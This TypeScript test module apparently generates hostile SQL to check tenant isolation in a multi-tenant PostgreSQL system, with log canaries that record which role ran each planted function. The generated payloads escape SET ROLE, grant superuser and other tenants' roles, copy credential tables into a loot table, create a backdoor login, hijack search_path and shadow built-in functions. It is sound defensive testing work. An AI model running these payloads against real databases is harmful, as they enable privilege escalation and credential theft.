// What a hostile workspace plants, and the canary that shows who ran it.
//
// The canary. Every planted function first RAISEs a WARNING carrying (label, current_user,
// session_user), and then inserts the same into `<schema>.attack_canary` (INSERT granted to
// PUBLIC, in an exception block). The WARNING is the channel the tests trust: the server writes
// it to its log whatever the role, the privileges or the search_path, and it survives the
// rollback of a refused apply, so planted code that ran as the admin and was then rolled back is
// still seen. The table is only a convenience for a person looking at the database.
//
// The payload. Run as whoever fires it, planted code tries, in turn: as it is; after RESET ROLE,
// SET ROLE <admin> and RESET SESSION AUTHORIZATION (the ways out of a `SET ROLE owner`); every
// escalation a workspace could want: other workspaces' roles, their schemas and data, the
// control plane, role attributes, a login of its own, search_path defaults that make the admin
// run its functions later, and a trigger on the control plane as a foothold. Each success
// raises one more canary ("gained: ..."), and the catalog checker sees the result.
import { readFile } from "node:fs/promises";
import type { Boundary } from "./attack-catalog.ts";

export const CANARY = "tenancy-attack-canary";
export const ADMIN = "tenancy_admin";
export const CONTROL = "tenancy_control";

export interface CanaryEntry { readonly label: string; readonly current_user: string; readonly session_user: string }

const lit = (s: string) => `'${s.replace(/'/g, "''")}'`;
const id = (s: string) => `"${s.replace(/"/g, '""')}"`;

/** plpgsql statements: the WARNING (the trusted channel) then the row (best effort). */
export function canary(schema: string, label: string | { expr: string }): string {
  const l = typeof label === "string" ? lit(label) : label.expr;
  return `
  RAISE WARNING '${CANARY} %', pg_catalog.json_build_object('label', ${l}, 'current_user', CURRENT_USER, 'session_user', SESSION_USER)::text;
  BEGIN
    INSERT INTO ${id(schema)}.attack_canary (label, cu, su) VALUES (${l}, CURRENT_USER, SESSION_USER);
  EXCEPTION WHEN OTHERS THEN NULL;
  END;`;
}

/** The escalations tried by planted code of `self`, against every other workspace. */
export function escalations(self: Boundary, others: readonly Boundary[], database: string): string[] {
  const s = self.app;
  const out: string[] = [];
  for (const v of others) {
    out.push(
      `GRANT ${id(v.app)}, ${id(v.owner)}, ${id(v.readonly)} TO ${id(s)}`,
      `GRANT USAGE, CREATE ON SCHEMA ${id(v.schema)} TO ${id(s)}`,
      `GRANT SELECT ON ALL TABLES IN SCHEMA ${id(v.schema)} TO ${id(s)}`,
      `ALTER DEFAULT PRIVILEGES FOR ROLE ${id(v.owner)} IN SCHEMA ${id(v.schema)} GRANT SELECT ON TABLES TO ${id(s)}`,
      `GRANT ${id(self.owner)} TO ${id(v.app)}`,
      `INSERT INTO ${id(self.schema)}.attack_loot SELECT ${lit(v.slug)}, t::text FROM ${id(v.schema)}.integration_credentials t`,
    );
  }
  out.push(
    `ALTER ROLE ${id(s)} CREATEROLE`, `ALTER ROLE ${id(s)} CREATEDB`, `ALTER ROLE ${id(s)} BYPASSRLS`, `ALTER ROLE ${id(s)} SUPERUSER`,
    `GRANT ${id(self.owner)} TO ${id(s)}`,
    `CREATE ROLE ${id(`${self.schema}_backdoor`)} LOGIN PASSWORD 'attack-backdoor-password' IN ROLE ${others.map((v) => id(v.owner)).join(", ")}`,
    `ALTER ROLE CURRENT_USER SET search_path = ${id(self.schema)}, public`,
    `ALTER DATABASE ${id(database)} SET search_path = ${id(self.schema)}, public`,
    `GRANT CREATE, TEMPORARY ON DATABASE ${id(database)} TO ${id(s)}`,
    `GRANT USAGE ON SCHEMA ${CONTROL} TO ${id(s)}`,
    `GRANT SELECT ON ALL TABLES IN SCHEMA ${CONTROL} TO ${id(s)}`,
    `INSERT INTO ${id(self.schema)}.attack_loot SELECT 'control-plane', t::text FROM ${CONTROL}.people t`,
    `CREATE TRIGGER attack_foothold AFTER INSERT OR UPDATE OR DELETE ON ${CONTROL}.workspaces FOR EACH STATEMENT EXECUTE FUNCTION ${id(self.schema)}.attack_foothold()`,
    `GRANT pg_read_all_data, pg_write_all_data TO ${id(s)}`,
  );
  return out;
}

/**
 * plpgsql statements: canary, then every escalation under each way out of a SET ROLE. Nothing
 * unqualified (the workspace may have planted `=` or `now()` on the caller's path), and a
 * transaction-local flag stops planted operators from re-entering it.
 */
export function payload(self: Boundary, others: readonly Boundary[], database: string, label: string): string {
  const stmts = escalations(self, others, database);
  return `
  ${canary(self.schema, label)}
  IF COALESCE(pg_catalog.current_setting('attack.busy', true), '') OPERATOR(pg_catalog.<>) 'on' THEN
    PERFORM pg_catalog.set_config('attack.busy', 'on', true);
    FOREACH attack_escape IN ARRAY ARRAY['', 'RESET ROLE', ${lit(`SET ROLE ${ADMIN}`)}, 'RESET SESSION AUTHORIZATION']::text[] LOOP
      IF attack_escape OPERATOR(pg_catalog.<>) '' THEN
        BEGIN EXECUTE attack_escape; EXCEPTION WHEN OTHERS THEN NULL; END;
        ${canary(self.schema, { expr: `${lit(`${label}:after `)} OPERATOR(pg_catalog.||) attack_escape` })}
      END IF;
      FOREACH attack_stmt IN ARRAY ARRAY[${stmts.map(lit).join(",\n        ")}]::text[] LOOP
        BEGIN
          EXECUTE attack_stmt;
          ${canary(self.schema, { expr: `${lit(`${label}:gained: `)} OPERATOR(pg_catalog.||) attack_stmt` })}
        EXCEPTION WHEN OTHERS THEN NULL;
        END;
      END LOOP;
    END LOOP;
    PERFORM pg_catalog.set_config('attack.busy', 'off', true);
  END IF;`;
}

/** A plpgsql function body: DECLARE block for `payload` plus `body`. */
export function plpgsql(body: string, ret: string): string {
  return `$attack$ DECLARE attack_escape text; attack_stmt text; BEGIN ${body} RETURN ${ret}; END $attack$`;
}

/** The canary entries in the server log from `offset` on, and where the log ends now. */
export async function readCanary(logFile: string, offset: number): Promise<{ entries: CanaryEntry[]; end: number }> {
  const text = await readFile(logFile);
  const entries: CanaryEntry[] = [];
  const marker = new RegExp(`WARNING:\\s+${CANARY} (\\{.*\\})\\s*$`);
  for (const line of text.subarray(offset).toString("utf8").split("\n")) {
    const m = marker.exec(line);
    if (m) entries.push(JSON.parse(m[1]!) as CanaryEntry);
  }
  return { entries, end: text.length };
}

/** Tables every hostile workspace keeps: the canary rows and whatever it manages to steal. */
export function attackerBase(self: Boundary, others: readonly Boundary[], database: string): string[] {
  const s = id(self.schema);
  return [
    `CREATE TABLE ${s}.attack_canary (label text, cu text, su text, at timestamptz DEFAULT pg_catalog.clock_timestamp())`,
    `GRANT INSERT ON ${s}.attack_canary TO PUBLIC`,
    `CREATE TABLE ${s}.attack_loot (source text, data text)`,
    `GRANT INSERT ON ${s}.attack_loot TO PUBLIC`,
    `CREATE FUNCTION ${s}.attack_foothold() RETURNS trigger LANGUAGE plpgsql AS ${plpgsql(payload(self, others, database, `${self.slug}:foothold`), "NULL")}`,
    `GRANT EXECUTE ON FUNCTION ${s}.attack_foothold() TO PUBLIC`,
  ];
}

/** Built-ins the toolkit may call, as [name, argument types, return type, expression of the real one]. */
const SHADOWED_FUNCTIONS: [string, string[], string, string][] = [
  ["now", [], "timestamptz", "pg_catalog.now()"],
  ["clock_timestamp", [], "timestamptz", "pg_catalog.clock_timestamp()"],
  ["hashtext", ["text"], "integer", "pg_catalog.hashtext($1)"],
  ["hashtext", ["varchar"], "integer", "pg_catalog.hashtext($1)"],
  ["pg_advisory_xact_lock", ["bigint"], "void", "pg_catalog.pg_advisory_xact_lock($1)"],
  ["pg_advisory_xact_lock", ["integer"], "void", "pg_catalog.pg_advisory_xact_lock($1)"],
  ["pg_advisory_lock", ["bigint"], "void", "pg_catalog.pg_advisory_lock($1)"],
  ["lower", ["text"], "text", "pg_catalog.lower($1)"],
  ["lower", ["varchar"], "text", "pg_catalog.lower($1)"],
  ["upper", ["text"], "text", "pg_catalog.upper($1)"],
  ["to_regclass", ["text"], "regclass", "pg_catalog.to_regclass($1)"],
  ["to_regclass", ["varchar"], "regclass", "pg_catalog.to_regclass($1)"],
  ["quote_ident", ["text"], "text", "pg_catalog.quote_ident($1)"],
  ["quote_literal", ["text"], "text", "pg_catalog.quote_literal($1)"],
  ["format", ["text"], "text", "pg_catalog.format($1)"],
  ["current_setting", ["text"], "text", "pg_catalog.current_setting($1)"],
  ["set_config", ["text", "text", "boolean"], "text", "pg_catalog.set_config($1, $2, $3)"],
  ["octet_length", ["bytea"], "integer", "pg_catalog.octet_length($1)"],
  ["length", ["text"], "integer", "pg_catalog.length($1)"],
  ["gen_random_uuid", [], "uuid", "pg_catalog.gen_random_uuid()"],
  ["pg_get_userbyid", ["oid"], "name", "pg_catalog.pg_get_userbyid($1)"],
  ["pg_has_role", ["name", "text", "text"], "boolean", "pg_catalog.pg_has_role($1, $2, $3)"],
  ["has_table_privilege", ["text", "text", "text"], "boolean", "pg_catalog.has_table_privilege($1, $2, $3)"],
  ["encode", ["bytea", "text"], "text", "pg_catalog.encode($1, $2)"],
  ["decode", ["text", "text"], "bytea", "pg_catalog.decode($1, $2)"],
  ["jsonb_build_object", ["text", "text"], "jsonb", "pg_catalog.jsonb_build_object($1, $2)"],
];

/** Operators the toolkit's queries use, as [operator, left, right, real operator]. */
const SHADOWED_OPERATORS: [string, string, string][] = [
  ["=", "text", "text"], ["=", "varchar", "varchar"], ["=", "name", "name"], ["=", "name", "text"], ["=", "text", "name"],
  ["=", "oid", "oid"], ["=", "integer", "integer"], ["=", "bigint", "bigint"], ["=", "bytea", "bytea"], ["=", "regclass", "regclass"],
  ["<>", "text", "text"], ["<>", "name", "name"], ["~", "text", "text"], ["||", "text", "text"],
];

/** (e): functions and operators named like built-ins, in `schema` (the workspace's, or pg_temp). */
export function shadowBuiltins(self: Boundary, others: readonly Boundary[], database: string, schema: string): string[] {
  const where = schema === "pg_temp" ? "pg_temp" : id(schema);
  const sql: string[] = [];
  for (const [name, args, ret, real] of SHADOWED_FUNCTIONS) {
    const label = `${self.slug}:e:${schema === "pg_temp" ? "pg_temp" : "schema"}:${name}(${args.join(",")})`;
    const body = ret === "void" ? `PERFORM ${real};` : "";
    sql.push(`CREATE FUNCTION ${where}.${id(name)}(${args.join(", ")}) RETURNS ${ret} LANGUAGE plpgsql AS ${plpgsql(payload(self, others, database, label) + body, ret === "void" ? "" : real)}`);
    if (schema !== "pg_temp") sql.push(`GRANT EXECUTE ON FUNCTION ${where}.${id(name)}(${args.join(", ")}) TO PUBLIC`);
  }
  if (schema === "pg_temp") return sql; // operators cannot live in pg_temp
  for (const [i, [op, left, right]] of SHADOWED_OPERATORS.entries()) {
    const fn = `${where}.attack_op_${i}`;
    const label = `${self.slug}:e:operator:${left} ${op} ${right}`;
    sql.push(
      `CREATE FUNCTION ${fn}(${left}, ${right}) RETURNS ${op === "||" ? "text" : "boolean"} LANGUAGE plpgsql AS ${plpgsql(payload(self, others, database, label), `$1 OPERATOR(pg_catalog.${op}) $2`)}`,
      `GRANT EXECUTE ON FUNCTION ${fn}(${left}, ${right}) TO PUBLIC`,
      `CREATE OPERATOR ${where}.${op} (LEFTARG = ${left}, RIGHTARG = ${right}, FUNCTION = ${fn})`,
    );
  }
  return sql;
}
